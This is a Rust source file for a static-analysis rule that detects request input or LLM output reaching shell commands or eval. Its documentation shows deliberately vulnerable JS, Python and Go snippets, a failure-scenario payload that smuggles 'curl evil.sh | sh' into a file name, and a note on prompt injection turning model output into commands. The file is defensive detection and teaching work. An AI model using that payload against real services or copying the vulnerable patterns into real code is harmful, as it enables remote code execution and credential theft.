use shipready_model::{FileRole, FlowOrigin, FlowSink, Project};

use super::input_flow::{describe_via, short};
use crate::{Rule, RuleContext, RuleMeta, declare_rule};

declare_rule! {
    /// Request input or LLM output run as a command or code
    ///
    /// ## What it finds
    /// Request input, or the text of an LLM completion, that reaches a shell or an
    /// interpreter: `child_process.exec`/`execSync`, `spawn`/`execFile` with `shell: true` or
    /// `sh -c`, `eval`, `new Function`, `vm.runIn*`; Python `os.system`, `os.popen`,
    /// `subprocess` with `shell=True` or `["sh", "-c", ...]`, `eval`, `exec`; Go
    /// `exec.Command("sh", "-c", ...)` or `exec.Command` with the program taken from input.
    /// ## Why it matters
    /// A shell reads `;`, `|`, `$(...)` and backticks in the value as more commands: whoever
    /// controls the value runs anything the service can, with its credentials and network
    /// access. `eval` of input is the same in the application's own language. A model's
    /// output is caller-controlled too: a prompt injection in a document or a message turns
    /// into a command.
    /// ## Failure scenario
    /// `POST /thumbnails {"file": "a.png; curl evil.sh | sh"}` runs the attacker's script in
    /// the worker container, which holds the object-storage keys.
    /// ## Examples
    /// ```js bad
    /// const express = require('express');
    /// const { exec } = require('child_process');
    /// const app = express();
    /// app.post('/convert', (req, res) => {
    ///   exec(`convert ${req.body.file} out.png`, () => res.end());
    /// });
    /// ```
    /// ```js good
    /// const express = require('express');
    /// const { execFile } = require('child_process');
    /// const app = express();
    /// app.post('/convert', (req, res) => {
    ///   execFile('convert', [req.body.file, 'out.png'], () => res.end());
    /// });
    /// ```
    /// ```py bad
    /// import subprocess
    /// from fastapi import FastAPI
    /// app = FastAPI()
    /// @app.post("/archive")
    /// def archive(name: str):
    ///     subprocess.run(f"tar czf out.tgz {name}", shell=True)
    /// ```
    /// ```py good
    /// import subprocess
    /// from fastapi import FastAPI
    /// app = FastAPI()
    /// @app.post("/archive")
    /// def archive(name: str):
    ///     subprocess.run(["tar", "czf", "out.tgz", "--", name])
    /// ```
    /// ```go bad
    /// package main
    ///
    /// import (
    /// 	"os/exec"
    ///
    /// 	"github.com/gin-gonic/gin"
    /// )
    ///
    /// func convert(c *gin.Context) {
    /// 	out, _ := exec.Command("sh", "-c", "convert "+c.Query("in")+" out.png").Output()
    /// 	c.String(200, string(out))
    /// }
    /// ```
    /// ```go good
    /// package main
    ///
    /// import (
    /// 	"os/exec"
    ///
    /// 	"github.com/gin-gonic/gin"
    /// )
    ///
    /// func convert(c *gin.Context) {
    /// 	out, _ := exec.Command("convert", c.Query("in"), "out.png").Output()
    /// 	c.String(200, string(out))
    /// }
    /// ```
    /// ## How to fix
    /// Run the program directly with an argument list (no shell), put `--` before input
    /// arguments, and validate the value against an allowlist or a strict pattern. Never
    /// `eval` input; parse it (`JSON.parse`, `ast.literal_eval`). Treat model output as
    /// untrusted: map it onto a fixed set of actions instead of executing it.
    /// ```ts fix
    /// execFile('convert', ['--', file, 'out.png'], callback);
    /// ```
    /// ## Limitations
    /// Intra-procedural: input is followed inside one function (nested callbacks included)
    /// through local variables, string building (`+`, template strings, f-strings, `%`,
    /// `.format`, `fmt.Sprintf`) and one level of same-file helper function. A guard is any
    /// condition, `assert` or validator call mentioning a variable of the flow with a check
    /// (an allowlist lookup, a comparison, a regex test); `shlex.quote` and
    /// `encodeURIComponent` end the flow. LLM output counts when the completion call and the
    /// command are in the same function.
    /// ## References
    /// - OWASP OS command injection defense: https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
    /// - OWASP LLM02 insecure output handling: https://genai.owasp.org/llmrisk/llm02-insecure-output-handling/
    pub CommandOrCodeInjection {
        code: "SEC014",
        slug: "command-or-code-injection",
        category: Security,
        severity: Critical,
        likelihood: Likely,
        effort_hours: 1.0,
    }
}

impl Rule for CommandOrCodeInjection {
    fn meta(&self) -> &'static RuleMeta {
        Self::META
    }

    fn check(&self, project: &Project, cx: &mut RuleContext) {
        for flow in &project.facts.input_flows {
            if !matches!(flow.sink, FlowSink::Command | FlowSink::Code)
                || project.file(flow.span.file).role == FileRole::Test
            {
                continue;
            }
            let what = if flow.sink == FlowSink::Command {
                "runs as a shell command in"
            } else {
                "is evaluated as code by"
            };
            if flow.guarded {
                cx.strength(
                    Self::META,
                    flow.span,
                    format!("input is checked before `{}`", short(&flow.api)),
                );
                continue;
            }
            let who = match flow.origin {
                FlowOrigin::Request => "request input",
                FlowOrigin::ModelOutput => "LLM output from",
            };
            let f = cx.finding(
                Self::META,
                flow.span,
                format!(
                    "{who} `{}` {what} `{}`",
                    short(&flow.source),
                    short(&flow.api)
                ),
            );
            let label = match flow.origin {
                FlowOrigin::Request => "input read here",
                FlowOrigin::ModelOutput => "model output produced here",
            };
            f.related(flow.source_span, format!("{label}{}", describe_via(flow)));
        }
    }
}
